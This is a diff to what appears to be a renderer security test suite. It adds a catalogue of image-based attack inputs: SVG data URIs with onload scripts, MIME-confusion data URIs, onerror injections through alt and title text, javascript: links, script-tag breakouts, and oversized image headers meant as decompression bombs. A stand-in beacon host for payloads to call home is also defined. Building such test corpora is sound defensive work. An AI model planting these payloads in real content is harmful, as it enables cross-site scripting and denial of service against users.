@@ -5,6 +5,8 @@ from __future__ import annotations
 import base64
 from dataclasses import dataclass
 
+from picture_files import PNG, gif, jpeg, png, uri, webp
+
 BEACON = "http://beacon.invalid"
 """Where the payloads call home, unless `Attack.text` is told of a server that listens."""
 
@@ -399,6 +401,43 @@ ATTACKS: tuple[Attack, ...] = (
         byte_order_mark="\ufeff<script>@RUN@</script>",
         homograph="[x](https://ex\u0430mple.com)",
         combining="x" + "\u0301" * 200,
+    ),
+    *_category(
+        "picture",
+        svg_in_text="![x](data:image/svg+xml;utf8,<svg/onload=@RUN@>)",
+        svg_escaped="![x](data:image/svg+xml,%3Csvg%20onload=%22@RUN@%22/%3E)",
+        svg_in_brackets="![x](<data:image/svg+xml;base64,@DOCUMENT@>)",
+        svg_upper="![x](DATA:IMAGE/SVG+XML;BASE64,@DOCUMENT@)",
+        svg_called_png="![x](data:image/png;base64,@DOCUMENT@)",
+        svg_behind_png="![x](data:image/png,image/svg+xml;base64,@DOCUMENT@)",
+        svg_before_png="![x](data:image/svg+xml;image/png;base64,@DOCUMENT@)",
+        svg_by_reference="![x][y]\n\n[y]: data:image/svg+xml;base64,@DOCUMENT@",
+        svg_entity="![x](data&colon;image/svg&plus;xml;base64,@DOCUMENT@)",
+        html_called_gif="![x](data:image/gif;base64,R0lGODlhPHNjcmlwdD4=)",
+        script_behind_png=f"![x]({uri(png(tail=b'<script>window.__pwned=1</script>'))})",
+        script_in_png=f"![x]({uri(png(extra=b'<img src=x onerror=window.__pwned=1>'))})",
+        alt_attribute=f'![" onerror="@RUN@" x="]({PNG})',
+        alt_single=f"![' onerror='@RUN@]({PNG})",
+        alt_tag=f"![<img src=x onerror=@RUN@>]({PNG})",
+        alt_close=f"![</span></p><script>@RUN@</script>]({PNG})",
+        alt_tex=f"![$\\href{{javascript:window.__pwned=1}}{{x}}$]({PNG})",
+        title=f'![x]({PNG} "a" onerror="@RUN@")',
+        quote_in_data='![x](data:image/png;base64,iVBORw0KGgo="onerror="@RUN@)',
+        tag_in_data="![x](data:image/png;base64,iVBORw0KGgo=><script>@RUN@</script>)",
+        mark="![x](\ufdd00\ufdd1) \ufdd00\ufdd1 ![y](\ufdd09\ufdd1)",
+        slot=f'<span class="runagent-slot"><script>@RUN@</script></span> ![x]({PNG})',
+        linked=f"[![x]({PNG})](javascript:window.__pwned=1)",
+        link_to_it=f"[x]({PNG})",
+        lies="".join(
+            f"![x]({address})\n\n"
+            for address in (
+                uri(png(60_000, 60_000, rows=b"\0")),
+                uri(gif(60_000, 60_000), "image/gif"),
+                uri(gif(1, 1, (60_000, 60_000)), "image/gif"),
+                uri(jpeg(60_000, 60_000), "image/jpeg"),
+                uri(webp(16_000, 16_000), "image/webp"),
+            )
+        ),
     ),
     *_category(
         "size",
